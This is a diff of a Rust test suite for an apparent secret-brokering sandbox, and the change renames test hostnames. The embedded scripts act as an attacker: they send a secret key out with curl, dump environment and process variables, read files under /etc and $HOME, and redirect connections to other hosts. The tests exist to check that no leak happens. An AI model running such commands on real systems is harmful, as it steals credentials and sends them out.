@@ -16,12 +16,12 @@ fn attack_30_the_value_is_in_no_variable_file_process_or_answer(fixture: &Fixtur
     let script = format!(
         r#"
         for path in / /chunks /header /error '/x?key={{}}'; do
-            curl -sS -i -d "$A_TEST_KEY" -H "X-Note: $A_TEST_KEY" "https://api.example.test$path" 2>&1
-            curl -sS -i --compressed -H 'Range: bytes=0-9' "https://api.example.test$path" 2>&1
+            curl -sS -i -d "$A_TEST_KEY" -H "X-Note: $A_TEST_KEY" "https://api.vendor.example$path" 2>&1
+            curl -sS -i --compressed -H 'Range: bytes=0-9' "https://api.vendor.example$path" 2>&1
         done
-        printf 'GET /socket HTTP/1.1\r\nHost: api.example.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n'
-        curl -sS -i "https://api.example.test/stale" 2>&1
-        curl -sS -i "https://api.example.test/compressed" 2>&1
+        printf 'GET /socket HTTP/1.1\r\nHost: api.vendor.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n'
+        curl -sS -i "https://api.vendor.example/stale" 2>&1
+        curl -sS -i "https://api.vendor.example/compressed" 2>&1
         env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n'
         find /.sandpen /tmp /etc /run "$HOME" . -type f -size -4M -exec cat {{}} + 2>/dev/null
         for process in /proc/[0-9]*; do
@@ -40,13 +40,13 @@ fn attack_30_the_value_is_in_no_variable_file_process_or_answer(fixture: &Fixtur
     assert!(!found.stdout.contains("UmVhbFZhbHVl"), "no base64 of it either");
     assert!(found.stdout.contains("502 Bad Gateway"), "a compressed answer is not passed on");
     assert!(found.stdout.contains("the value of A_TEST_KEY on the host was not accepted"), "a stale value says so");
-    assert!(found.stderr.contains("api.example.test did not accept the value of A_TEST_KEY"), "{}", found.stderr);
+    assert!(found.stderr.contains("api.vendor.example did not accept the value of A_TEST_KEY"), "{}", found.stderr);
     assert!(rig.requests().iter().filter(|request| request.contains(VALUE)).count() >= 10);
     // Neither is it in an argument of a process outside, in the record, or in an explanation.
     let mut command = fixture.run();
     command.envs(rig.host()).args([
         "--secret",
-        "A_TEST_KEY@api.example.test",
+        "A_TEST_KEY@api.vendor.example",
         "--",
         "bash",
         "-c",
@@ -61,9 +61,9 @@ fn attack_30_the_value_is_in_no_variable_file_process_or_answer(fixture: &Fixtur
     assert!(!log.success().contains(needle), "{}", log.stdout);
     for format in ["text", "json"] {
         let mut explain = fixture.command("explain");
-        explain.envs(rig.host()).args(["--format", format, "--secret", "A_TEST_KEY@api.example.test", "--", "true"]);
+        explain.envs(rig.host()).args(["--format", format, "--secret", "A_TEST_KEY@api.vendor.example", "--", "true"]);
         let explained = explain.finish();
-        assert!(explained.success().contains("api.example.test") && !explained.stdout.contains(needle));
+        assert!(explained.success().contains("api.vendor.example") && !explained.stdout.contains(needle));
     }
 }
 
@@ -71,12 +71,12 @@ fn attack_30_the_guests_own_key_is_never_passed_on(fixture: &Fixture) {
     let rig = Rig::start(fixture);
     let script = r#"
         ask() { curl -sS -o /dev/null "$@" 2>&1; }
-        ask -H 'Authorization: Bearer attackers-key' https://api.example.test/1
-        ask -H 'X-Api-Key: attackers-key' -H 'X-Goog-Api-Key: attackers-key' https://api.example.test/2
-        ask -u 'user:attackers-key' -H 'Cookie: session=attackers-key' https://api.example.test/3
-        ask 'https://api.example.test/4?key=attackers-key&access_token=attackers-key&x=1'
-        ask -H 'Proxy-Authorization: Bearer attackers-key' -H 'Private-Token: attackers-key' https://api.example.test/5
-        ask -H 'Authorization: Bearer attackers-key' -H 'Connection: Authorization' https://api.example.test/6"#;
+        ask -H 'Authorization: Bearer attackers-key' https://api.vendor.example/1
+        ask -H 'X-Api-Key: attackers-key' -H 'X-Goog-Api-Key: attackers-key' https://api.vendor.example/2
+        ask -u 'user:attackers-key' -H 'Cookie: session=attackers-key' https://api.vendor.example/3
+        ask 'https://api.vendor.example/4?key=attackers-key&access_token=attackers-key&x=1'
+        ask -H 'Proxy-Authorization: Bearer attackers-key' -H 'Private-Token: attackers-key' https://api.vendor.example/5
+        ask -H 'Authorization: Bearer attackers-key' -H 'Connection: Authorization' https://api.vendor.example/6"#;
     rig.bash(fixture, &[], script).success();
     let requests = rig.requests();
     assert_eq!(requests.len(), 6, "{requests:?}");
@@ -90,18 +90,18 @@ fn attack_30_the_value_goes_nowhere_else(fixture: &Fixture) {
     let rig = Rig::start(fixture);
     let script = r#"
         ask() { curl -sS -m 20 -o /dev/null -w '%{http_code} ' "$@" 2>/dev/null; echo "$?"; }
-        for host in other.example.test api.anthropic.com; do
+        for host in other.vendor.example api.anthropic.com; do
             ask -H "Authorization: Bearer $A_TEST_KEY" -H "X-Api-Key: $A_TEST_KEY" "https://$host/?key=$A_TEST_KEY"
         done
-        ask -H "Authorization: Bearer $A_TEST_KEY" https://api.example.test:8443/
-        ask -H "Authorization: Bearer $A_TEST_KEY" http://api.example.test/
-        ask -H 'Host: other.example.test' https://api.example.test/misdirected
-        ask --connect-to api.example.test:443:other.example.test:443 https://api.example.test/elsewhere
-        ask --connect-to other.example.test:443:api.example.test:443 https://other.example.test/other-name
-        ask -X TRACE https://api.example.test/trace
-        ask -X CONNECT https://api.example.test/connect
-        ask --proxy "" https://api.example.test/around
-        ask -d "$A_TEST_KEY" https://api.example.test/body"#;
+        ask -H "Authorization: Bearer $A_TEST_KEY" https://api.vendor.example:8443/
+        ask -H "Authorization: Bearer $A_TEST_KEY" http://api.vendor.example/
+        ask -H 'Host: other.vendor.example' https://api.vendor.example/misdirected
+        ask --connect-to api.vendor.example:443:other.vendor.example:443 https://api.vendor.example/elsewhere
+        ask --connect-to other.vendor.example:443:api.vendor.example:443 https://other.vendor.example/other-name
+        ask -X TRACE https://api.vendor.example/trace
+        ask -X CONNECT https://api.vendor.example/connect
+        ask --proxy "" https://api.vendor.example/around
+        ask -d "$A_TEST_KEY" https://api.vendor.example/body"#;
     let finished = rig.bash(fixture, &[], script);
     finished.success();
     let with_value: Vec<String> = rig.requests().into_iter().filter(|request| request.contains(VALUE)).collect();
